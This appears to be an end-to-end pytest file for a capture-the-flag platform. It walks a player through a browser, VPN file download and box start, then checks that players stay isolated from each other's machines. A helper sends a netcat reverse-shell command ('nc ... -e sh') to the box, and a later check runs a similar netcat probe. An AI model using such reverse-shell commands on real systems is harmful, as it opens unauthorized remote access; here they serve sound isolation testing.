"""The whole way of a player, in a real browser and with the plain VPN clients: from the page into the box and back."""

import re
import socket
from collections.abc import Iterator
from contextlib import ExitStack, closing
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from chatsubo.gates import file_name
from tests.needs import need
from tests.real.browser import open_browser, visit
from tests.real.dockerd import Dockerd
from tests.real.game.test_in_a_browser import register
from tests.real.gate.played import (
    BOX,
    GATEWAY,
    LONG,
    PLAYERS,
    PORT,
    are_barred,
    are_dead,
    connect,
    dial,
    is_barred,
    lives,
    platform,
    says,
    tunnel_address,
)
from tests.real.gate.service import Service
from tests.real.gate.world import PA, PB, World
from tests.real.namespace import run
from tests.real.server import Server

pytestmark = [need.chromium, need.wireguard, need.openvpn, need.nftables]

FILES = {"wireguard": "chatsubo-wz01.conf", "openvpn": "chatsubo-wz01.ovpn"}
# WireGuard in user space has its socket in a folder that all namespaces share, under the name of the file.
ALONE = "mkdir -p /run/wireguard && mount -t tmpfs none /run/wireguard && exec"


@pytest.fixture(params=["wireguard", "openvpn"])
def service(request: pytest.FixtureRequest, behind: Dockerd, in_the_gate: World) -> Iterator[Service]:
    """The gate."""
    made = Service(in_the_gate, request.param, routes=[behind.subnets[0]], subnet=PLAYERS)
    with closing(made.http):
        made.start()
        yield made


@pytest.fixture
def server(service: Service, behind: Dockerd, tmp_path: Path) -> Iterator[Server]:
    """The platform, on the gate's host."""
    with platform(behind, tmp_path, service) as started:
        yield started


@pytest.fixture
def browser(in_the_gate: World) -> Iterator[Browser]:
    """A browser that is at the gate's host too: the platform listens there alone."""
    with open_browser() as opened:
        yield opened


def download(page: Page, folder: Path) -> Path:
    """Take the VPN file from the page, under the name that it comes with."""
    with page.expect_download() as expected:
        page.get_by_role("link", name="Download the configuration").click()
    file = folder / expected.value.suggested_filename
    expected.value.save_as(file)
    return file


def connect_with(file: Path, world: World, host: str) -> None:
    """Start the plain client with a file as it is, with the commands that the page names."""
    if file.suffix == ".conf":
        world.run(host, "unshare", "--mount", "sh", "-c", f"{ALONE} wg-quick up ./{file.name}", cwd=file.parent)
    else:
        world.spawn(host, "openvpn", "--config", file.name, cwd=file.parent)
    assert world.reaches(host, GATEWAY, within=LONG), "the tunnel does not come up"


def start_the_box(page: Page, slug: str) -> str:
    """Start it on its page, and return its address."""
    page.goto(f"/boxes/{slug}")
    machine = page.locator("#machine")
    expect(machine).to_contain_text("Connected to wz01")
    page.get_by_role("button", name="Start", exact=True).click()
    expect(machine.get_by_text("Running", exact=True)).to_be_visible()
    address = re.search(r"\d+\.\d+\.\d+\.\d+", machine.inner_text())
    assert address is not None
    return address[0]


def submit(page: Page, flag: str) -> None:
    """Hand a flag in on the box's page."""
    page.get_by_label("A flag of this box").fill(flag)
    page.locator("#flags").get_by_role("button", name="Submit").click()
    expect(page.locator("li.flag.is-found")).to_have_count(1)


def reverse_shell(line: socket.socket, listener: socket.socket) -> tuple[socket.socket, str]:
    """Let the machine at the other end open a shell to a player, and return that, and where it came from."""
    address, port = listener.getsockname()
    line.sendall(f"nc {address} {port} -e sh &\n".encode())
    listener.settimeout(LONG)
    shell, (source, _) = listener.accept()
    return shell, source


def test_a_player_goes_from_the_page_into_the_box_and_nobody_else_does(
    server: Server, service: Service, behind: Dockerd, in_the_gate: World, browser: Browser
) -> None:
    world, kind = in_the_gate, service.settings["kind"]
    finn = server.organiser()
    slug = server.release(finn, BOX)
    molly = server.visitor().register("molly")
    connect(world, PB, molly)
    hers = molly.start(slug)["address"]

    with ExitStack() as open_ones, visit(browser, server.url) as page:
        register(page, "case")
        page.goto(f"/boxes/{slug}")
        expect(page.locator("#machine")).to_contain_text("You are not connected to wz01")
        page.get_by_role("link", name="How to use it").click()
        way = page.locator("#way-wz01")
        expect(way).to_contain_text("Your file is made when you ask for it the first time.")
        file = download(page, world.folder)
        assert file.name == FILES[kind]
        expect(way).to_contain_text("Start your VPN client with the file that you have.")
        connect_with(file, world, PA)
        expect(way.locator(".state")).to_have_text("Connected")

        box = start_the_box(page, slug)
        line, her_line = (open_ones.enter_context(dial(world, *to)) for to in ((PA, box), (PB, hers)))
        submit(page, says(line, "cat /flag"))
        a, b = (tunnel_address(world, host) for host in (PA, PB))
        listener, her_listener = (
            open_ones.enter_context(world.listen(host, address)) for host, address in ((PA, a), (PB, b))
        )
        shell, source = reverse_shell(line, listener)
        open_ones.enter_context(shell)
        assert source == box
        assert says(shell, "cat /flag") == says(line, "cat /flag") != says(her_line, "cat /flag")

        a_port, b_port = (one.getsockname()[1] for one in (listener, her_listener))
        assert are_barred(world, [(PB, box, PORT), (PB, a, a_port), (PA, hers, PORT), (PA, b, b_port)])
        assert says(shell, f"nc -w 1 {b} {b_port} -e true && echo through || echo barred") == "barred"

        # The stop ends what is open.
        page.locator("#machine summary", has_text="Stop").click()
        page.get_by_role("button", name="Stop it").click()
        expect(page.get_by_role("button", name="Start", exact=True)).to_be_visible()
        assert are_dead(line, shell)
        assert is_barred(world, PA, box)

        # An organiser ends it too, while the machine goes on.
        assert lives(her_line)
        (gate,) = finn.until("/admin/gates", lambda gates: gates[0]["online"] == 2)
        assert (gate["enforces"], gate["problem"]) == (True, None)
        (account,) = [one["account_id"] for one in gate["players"] if one["username"] == "molly"]
        finn.post(f"/admin/realms/wz01/players/{account}/cut-off")
        finn.until("/admin/gates", lambda gates: gates[0]["up_to_date"] and gates[0]["peers"] == 1)
        assert are_dead(her_line)
        assert len(behind.containers("chatsubo.session")) == 1


@pytest.mark.parametrize("realm", ["the-network-of-monday", "étage/2", "-", ".."])
def test_wg_quick_takes_the_file_of_a_realm_whatever_that_is_called(realm: str, tmp_path: Path) -> None:
    file = tmp_path / file_name(realm, "wireguard")
    file.write_text("[Interface]\nPrivateKey = key\nAddress = 10.66.0.2/32\n")
    assert run("wg-quick", "strip", f"./{file.name}", cwd=tmp_path).stdout == "[Interface]\nPrivateKey = key\n\n"
